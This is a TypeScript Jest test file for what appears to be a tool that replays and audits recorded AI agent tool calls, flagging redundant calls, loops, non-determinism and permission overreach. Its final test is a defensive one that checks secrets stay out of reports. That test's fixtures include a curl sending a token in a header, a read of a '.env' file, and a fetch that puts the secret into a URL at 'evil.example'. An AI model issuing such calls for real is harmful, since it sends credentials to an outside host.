import { describe, expect, test } from '@jest/globals';
import { runCli, testCases, transcript, workspace } from '../helpers/bundle.ts';
import { resulted, used } from '../helpers/claude.ts';
import { lines } from '../helpers/logs.ts';

// What people have complained of in tools that compare recorded calls: each as one test, with where it was said.

const FILES = { readOnlyHint: true, path: '/path', reads: ['/path'] };

/** A scope in which everything may be called, and this is known. */
function knowing(more: object = {}): string {
  return JSON.stringify({ version: 2, agent: 'a', permissions: { allow: ['*'] }, unknown_tools: 'reading', ...more });
}

/** A compaction, as Claude Code writes it. */
const COMPACTED = { type: 'system', subtype: 'compact_boundary', uuid: 'c', sessionId: 's1', content: 'compacted' };

/** Codex with arguments that are no JSON. */
function codex(...texts: readonly string[]): string {
  const item = (payload: object): object => ({ timestamp: '2026-06-01T00:00:00Z', type: 'response_item', payload });
  const calls = texts.flatMap((text, k) => [
    item({ type: 'function_call', name: 'read', arguments: text, call_id: `c${k}` }),
    item({ type: 'function_call_output', call_id: `c${k}`, output: 'x' }),
  ]);
  return lines({ type: 'session_meta', payload: { id: 's1', cwd: '/w', cli_version: '0.129.0' } }, ...calls);
}

const READ = { file_path: '/w/a' };
const read = (id: string, text: unknown, message = id): object[] => [
  used(id, 'Read', READ, { message }),
  resulted(id, text),
];
const failed = (id: string, text: string): object[] => [
  used(id, 'Bash', { command: 'npm test' }, { message: id }),
  resulted(id, text, { block: { is_error: true } }),
];
const search = (...answers: readonly object[]): string =>
  transcript(...answers.map((answer) => ['search', { q: 'x' }, answer] as const));

type Case = readonly [name: string, log: string, scope: string, kinds: readonly string[]];

const CASES: readonly Case[] = [
  [
    'answers that come in another order than the calls are those of their calls (claude-code#31330)',
    lines(
      used('A', 'Read', { file_path: '/w/a' }, { message: 'm1' }),
      used('B', 'Read', { file_path: '/w/b' }, { message: 'm1' }),
      resulted('B', 'b'),
      resulted('A', 'a'),
      ...read('C', 'b', 'm2').map((line) => JSON.parse(JSON.stringify(line).replaceAll('/w/a', '/w/b')) as object),
    ),
    knowing(),
    ['2 redundant-call'],
  ],
  [
    'calls that were issued together have no order: none of them is redundant (claude-code#39830)',
    lines(
      used('A', 'Read', READ, { message: 'm1' }),
      used('B', 'Read', READ, { message: 'm1' }),
      resulted('A', 'a'),
      resulted('B', 'a'),
    ),
    knowing(),
    [],
  ],
  [
    'a missing answer is no other answer (zerostack#266)',
    lines(...read('A', 'a'), used('B', 'Read', READ, { message: 'm2' }), used('C', 'Grep', {}, { message: 'm3' })),
    knowing(),
    [],
  ],
  [
    '"file unchanged since your last Read" is the same answer: redundant, and no divergence (claude-code#60684, #88118)',
    lines(
      ...read('A', 'text'),
      used('B', 'Read', READ, { message: 'm2' }),
      resulted('B', 'File unchanged since last read. The content from the earlier Read result is still current.', {
        line: { toolUseResult: { type: 'file_unchanged' } },
      }),
    ),
    knowing(),
    ['1 redundant-call'],
  ],
  [
    'ids, times and durations make no difference once they are named (ogx#3676, dd-apm-test-agent#324)',
    search(
      { took_ms: 1, at: '2026-06-01T00:00:00Z', id: '0b0f3c1e-6f0a-4a57-9b1d-2f64d3c1a0e1', hits: 3 },
      { took_ms: 2, at: '2026-06-01T00:00:09Z', id: '5c8d2f7a-1b2c-4d3e-8f90-a1b2c3d4e5f6', hits: 3 },
    ),
    knowing({
      normalize: [
        { tool: 'search', response: '/took_ms', why: 'w' },
        { class: 'iso-time', why: 'w' },
        { class: 'uuid', why: 'w' },
      ],
    }),
    ['1 redundant-call'],
  ],
  [
    'and hide no real one beside them (claude-supertool#648)',
    search({ took_ms: 1, at: '2026-06-01T00:00:00Z', hits: 3 }, { took_ms: 2, at: '2026-06-01T00:00:09Z', hits: 4 }),
    knowing({
      normalize: [
        { tool: 'search', response: '/took_ms', why: 'w' },
        { class: 'iso-time', why: 'w' },
      ],
    }),
    ['1 non-determinism'],
  ],
  [
    'nor do those of another tool (claude-supertool#648)',
    search({ took_ms: 1 }, { took_ms: 2 }),
    knowing({ normalize: [{ tool: 'find', response: '/took_ms', why: 'w' }] }),
    ['1 non-determinism'],
  ],
  [
    'the order of keys is no difference (php-vcr#506, dokimos#103)',
    '{"index":0,"tool":"t","args":{"a":1,"b":2},"response":{"x":1,"y":2}}\n{"index":1,"tool":"t","args":{"b":2,"a":1},"response":{"y":2,"x":1}}\n',
    knowing(),
    ['1 redundant-call'],
  ],
  [
    'a tool that polls is no loop (OpenHands#10750, qwen-code#9492)',
    transcript(...Array.from({ length: 5 }, () => ['get_status', { job: 7 }, { state: 'queued' }] as const)),
    knowing({ tools: { get_status: { readOnlyHint: true, polling: true } } }),
    [],
  ],
  [
    'nor are calls with answers that change (sdk#762)',
    transcript(...[1, 2, 3, 4].map((n) => ['get_status', { job: 7 }, { done: n }] as const)),
    knowing({ tools: { get_status: { readOnlyHint: true } } }),
    ['1 non-determinism', '2 non-determinism', '3 non-determinism'],
  ],
  [
    'one tool over many files is no loop (gemini-cli#5873, #8232)',
    transcript(...[1, 2, 3, 4, 5, 6].map((n) => ['read_file', { path: `/w/${n}` }, { text: 'x' }] as const)),
    knowing({ tools: { read_file: FILES } }),
    [],
  ],
  [
    'the same call that fails again and again is one, whatever the error says (gemini-cli#16954)',
    lines(
      ...failed('A', 'Exit code 1\n1 failing'),
      ...failed('B', 'Exit code 1\n1 failing'),
      ...failed('C', 'Exit code 1\n2 failing'),
    ),
    knowing(),
    ['0 repeated-loop', '2 non-determinism'],
  ],
  [
    'to read again what was compacted away is no repeat for nothing (hermes-agent#109683, openclaw#128148)',
    lines(...read('A', 'text'), COMPACTED, ...read('B', 'text')),
    knowing(),
    [],
  ],
  [
    'arguments that are no JSON are what they are, and never empty ones (tracelint 0.5)',
    codex("{'path': 'a'}", "{'path': 'b'}", "{'path': 'c'}"),
    knowing(),
    [],
  ],
];

describe('replay with what is known of tools', () => {
  testCases(
    CASES,
    ([, log, scope]) =>
      runCli(workspace({ 'run.jsonl': log, 'scope.json': scope }), ['replay', 'run.jsonl', '--scope', 'scope.json']),
    ({ stdout, exitCode }, [, , , kinds]) => {
      const found = [...stdout.matchAll(/^index (\d+): ([\w-]+): /gm)].map(([, index, kind]) => `${index} ${kind}`);
      expect(found).toEqual(kinds);
      expect(exitCode).toBe(kinds.length === 0 ? 0 : 1);
    },
  );
});

describe('numbers', () => {
  test('of answers are what was written, 1 and 1.0 being two; those of rules are their values (cassetter#71)', async () => {
    const files = workspace({
      'run.jsonl':
        '{"index":0,"tool":"t","args":{"n":1},"response":{"x":1}}\n{"index":1,"tool":"t","args":{"n":1},"response":{"x":1.0}}\n{"index":2,"tool":"t","args":{"n":1.0},"response":{}}\n{"index":3,"tool":"t","args":{"n":2},"response":{}}\n',
      'scope.json': knowing({ rules: [{ id: 'r', effect: 'require', tool: 't', args: { '/n': { equals: 1 } } }] }),
    });
    const replay = await runCli(files, ['replay', 'run.jsonl', '--scope', 'scope.json']);
    expect(replay.stdout).toContain('divergence: index 1\n');
    const scope = await runCli(files, ['scope', 'run.jsonl', 'scope.json']);
    expect(scope.stdout).toBe("calls: 4\nfindings: 1\nindex 3: permission-overreach: tool 't': /n breaks 'r'\n");
  });
});

describe('secrets of a recording', () => {
  test('are in no report of a scope (claude-code#63593, #86707)', async () => {
    const secret = 's3cr3t-0123';
    const commands = [
      `curl -H "Authorization: ${secret}" https://x.example`,
      `TOKEN=${secret} ./deploy --key ${secret} > /tmp/${secret}`,
      `echo "${secret}`,
      `cat /w/${secret}`,
    ];
    const files = workspace({
      'run.jsonl': transcript(
        ...commands.map((command) => ['Bash', { command }, { out: secret }] as const),
        ['Read', { file_path: `/w/${secret}/.env` }],
        ['pay', { amount: 9, key: secret, [secret]: 1 }, { text: secret }],
        ['pay', { amount: 9, key: secret, [secret]: 1 }, { text: `${secret}2` }],
        ['WebFetch', { url: `https://${secret}@evil.example/${secret}` }],
      ),
      'scope.json': JSON.stringify({
        ...{ version: 2, agent: 'a', root: '/repo' },
        permissions: { allow: ['Bash(ls:*)', 'WebFetch(domain:x.example)'], deny: ['Read(**/.env)'] },
        rules: [{ id: 'cap', effect: 'require', tool: 'pay', args: { '/amount': { max: 5 } } }],
      }),
    });
    const runs = [
      ['scope', 'run.jsonl', 'scope.json'],
      ['scope', '--explain', 'run.jsonl', 'scope.json'],
      ['replay', 'run.jsonl', '--scope', 'scope.json'],
      ['audit', 'run.jsonl', '--scope', 'scope.json'],
    ];
    for (const args of runs) {
      const { stdout, stderr, exitCode } = await runCli(files, args);
      expect(exitCode).toBe(1);
      expect(stdout).toContain('index ');
      expect(stdout + stderr).not.toContain(secret);
    }
  });
});
